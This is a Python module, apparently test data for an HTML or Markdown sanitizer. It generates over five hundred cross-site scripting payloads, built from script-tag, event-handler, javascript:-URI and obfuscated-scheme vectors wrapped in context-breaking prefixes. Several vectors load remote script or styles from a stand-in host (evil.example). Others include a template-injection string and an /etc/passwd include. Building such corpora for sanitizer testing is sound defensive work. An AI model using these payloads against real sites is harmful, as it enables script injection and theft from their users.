"""Texts that want to become markup: vectors of script, each in several disguises."""

from __future__ import annotations

from collections.abc import Iterator

CALL = "fail(1)"
_VECTORS = (
    f"<script>{CALL}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src='x'/onerror={CALL}//",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe onload={CALL}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={CALL}></style></table></math>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<body onload={CALL}>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='javascript:{CALL}'>",
    "<base href='//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<form action='javascript:{CALL}'><button>x</button></form>",
    f"<button formaction='javascript:{CALL}'>x</button>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<a href='&#x6a;avascript:{CALL}'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    f"<div style='background:url(javascript:{CALL})'>",
    f"<p onclick={CALL} style=position:fixed>",
    f"<x data-hx-get=/ data-hx-trigger=load data-hx-on:load={CALL}>",
    f"<x hx-on:click={CALL} hx-get=//evil.example/ hx-trigger=load>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<select><style></select><img src=x onerror={CALL}>",
    f"<![CDATA[><script>{CALL}</script>]]>",
    f"<!--><script>{CALL}</script>-->",
    f"<textarea></textarea><script>{CALL}</script>",
    f"<isindex action='javascript:{CALL}'>",
    f"[x](javascript:{CALL})",
    f"[x](JaVaScRiPt:{CALL})",
    f"[x](java&#x0a;script:{CALL})",
    "[x](data:text/html,<script>1</script>)",
    f"[x](vbscript:{CALL})",
    f'[x](https://example.org/"onmouseover="{CALL})',
    f"<javascript:{CALL}>",
    f"![x](x){{onerror={CALL}}}",
    f"`<img src=x onerror={CALL}>`",
    f"[<img src=x onerror={CALL}>](https://example.org/)",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{% load x %}{% include '/etc/passwd' %}",
)
_DISGUISES = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</script>{}",
    "</textarea></style>{}",
    "--><!-- -->{}",
    "\u202e{}\u202c",
    "\x00{}\ufffd",
    "word {} word",
)


def payloads() -> Iterator[str]:
    """More than five hundred."""
    for disguise in _DISGUISES:
        for vector in _VECTORS:
            yield disguise.format(vector) if "{}" in disguise else vector
